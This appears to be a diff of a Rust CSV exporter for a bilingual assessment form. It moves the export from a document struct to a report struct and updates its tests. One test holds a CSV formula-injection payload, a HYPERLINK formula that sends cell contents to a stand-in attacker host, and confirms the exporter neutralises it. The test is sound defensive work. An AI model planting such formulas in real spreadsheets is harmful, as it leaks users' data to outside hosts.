@@ -5,8 +5,8 @@
 
 use ::csv::{Terminator, WriterBuilder};
 
-use super::Document;
 use crate::i18n::Lang;
+use crate::report::{FormReport, words};
 use crate::safe_text::visible;
 
 /// The UTF-8 byte order mark: without it Excel reads UTF-8 CSV as the local code
@@ -59,42 +59,43 @@ fn header(lang: Lang) -> [&'static str; 7] {
 
 /// Renders one row per key question: guideline heading, item id, item text, item
 /// status (未完成／部分完成／已完成／不適用 in Chinese, `todo|partial|done|na` in
-/// English), question id, question text, answer. The item
-/// columns are empty for a question under no item. With `bom` the output starts with
-/// the UTF-8 byte order mark, for Excel.
-pub fn questions(document: &Document<'_>, bom: bool) -> Vec<u8> {
+/// English), question id, question text, answer. The item columns are empty for a
+/// question under no item. With `bom` the output starts with the UTF-8 byte order
+/// mark, for Excel.
+pub fn questions(report: &FormReport, bom: bool) -> Vec<u8> {
     let start = if bom { BOM.to_vec() } else { Vec::new() };
     let mut writer = WriterBuilder::new()
         .terminator(Terminator::CRLF)
         .from_writer(start);
-    let mut records = vec![header(document.lang).map(str::to_owned)];
-    records.extend(document.form.questions().map(|(group, item, question)| {
-        let heading = document
-            .guidelines
-            .guideline(&group.id)
-            .map_or_else(|| group.id.to_string(), |g| g.heading());
-        let (item_id, item_text, status) = item.map_or_else(Default::default, |item| {
-            (
-                item.id.to_string(),
-                item.text.to_string(),
-                // Chinese headers get Chinese words; English keeps the ids scripts use.
-                match document.lang {
-                    Lang::Zh => document.assessment.status(&item.id).label(Lang::Zh),
-                    Lang::En => document.assessment.status(&item.id).as_str(),
-                }
-                .to_owned(),
-            )
-        });
-        [
-            heading,
-            item_id,
-            item_text,
-            status,
-            question.id.to_string(),
-            question.text.to_string(),
-            document.assessment.answer(&question.id).to_owned(),
-        ]
-    }));
+    let mut records = vec![header(report.lang).map(str::to_owned)];
+    for group in &report.groups {
+        for row in group.rows() {
+            let Some(question) = row.question else {
+                continue;
+            };
+            let (item_id, item_text, status) = row.item.map_or_else(Default::default, |item| {
+                (
+                    item.id.clone(),
+                    item.text.clone(),
+                    // Chinese headers get Chinese words; English keeps the ids scripts use.
+                    match report.lang {
+                        Lang::Zh => words::status(item.status, Lang::Zh),
+                        Lang::En => item.status.as_str(),
+                    }
+                    .to_owned(),
+                )
+            });
+            records.push([
+                group.heading.clone(),
+                item_id,
+                item_text,
+                status,
+                question.id.clone(),
+                question.text.clone(),
+                question.answer.clone(),
+            ]);
+        }
+    }
     for record in records {
         // Line breaks are kept: quoting keeps them inside the cell.
         let record = record
@@ -131,8 +132,8 @@ mod tests {
     #[test]
     fn one_row_per_question_in_official_order_with_the_answer_intact() {
         let sample = Sample::new();
-        let document = sample.document(Lang::Zh);
-        let bytes = questions(&document, false);
+        let doc = sample.report(Lang::Zh);
+        let bytes = questions(&doc, false);
         let (header, rows) = read(&bytes);
         assert_eq!(
             header.iter().collect::<Vec<_>>(),
@@ -148,8 +149,8 @@ mod tests {
         );
         assert_eq!(rows.len(), 16);
         let ids: Vec<&str> = rows.iter().map(|r| &r[4]).collect();
-        let expected: Vec<&str> = document
-            .form
+        let expected: Vec<&str> = sample
+            .form()
             .questions()
             .map(|(_, _, q)| q.id.as_str())
             .collect();
@@ -163,7 +164,12 @@ mod tests {
             &tricky[6],
             "<b>粗體</b> & \"引號\" | 管線\n第二行␛[31m<U+202E>"
         );
-        let heading = document.guidelines.guideline("3").expect("3").heading();
+        let heading = sample
+            .catalog
+            .guidelines
+            .guideline("3")
+            .expect("3")
+            .heading();
         assert_eq!(&tricky[0], heading);
         let partial = rows.iter().find(|r| &r[4] == "2.1.1").expect("2.1.1");
         assert_eq!((&partial[1], &partial[3]), ("2.1", "部分完成"));
@@ -184,15 +190,15 @@ mod tests {
         let catalog = crate::form::Catalog::bundled().expect("bundled");
         let form = &catalog.form("service").expect("service").form;
         let assessment = Assessment::from_example(form);
-        let document = Document {
-            assessment: &assessment,
+        let doc = FormReport::new(
+            &assessment,
             form,
-            guidelines: &catalog.guidelines,
-            brics: &catalog.brics,
-            revision: None,
-            lang: Lang::En,
-        };
-        let (header, rows) = read(&questions(&document, false));
+            &catalog.guidelines,
+            &catalog.brics,
+            None,
+            Lang::En,
+        );
+        let (header, rows) = read(&questions(&doc, false));
         assert_eq!(
             header.iter().collect::<Vec<_>>(),
             [
@@ -227,15 +233,15 @@ mod tests {
         let mut assessment = Assessment::new(form);
         let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
         assessment.set_answer("1.1.1", hostile);
-        let document = Document {
-            assessment: &assessment,
+        let doc = FormReport::new(
+            &assessment,
             form,
-            guidelines: &catalog.guidelines,
-            brics: &catalog.brics,
-            revision: None,
-            lang: Lang::Zh,
-        };
-        let (_, rows) = read(&questions(&document, false));
+            &catalog.guidelines,
+            &catalog.brics,
+            None,
+            Lang::Zh,
+        );
+        let (_, rows) = read(&questions(&doc, false));
         let cell = &rows[0][6];
         assert!(cell.starts_with("'=HYPERLINK"), "{cell}");
         assert_eq!(restore(cell), hostile);
@@ -244,9 +250,9 @@ mod tests {
     #[test]
     fn byte_order_mark_only_when_asked() {
         let sample = Sample::new();
-        let document = sample.document(Lang::Zh);
-        let with = questions(&document, true);
-        let without = questions(&document, false);
+        let doc = sample.report(Lang::Zh);
+        let with = questions(&doc, true);
+        let without = questions(&doc, false);
         assert!(with.starts_with(BOM));
         assert!(!without.starts_with(BOM));
         assert_eq!(&with[BOM.len()..], &without[..]);
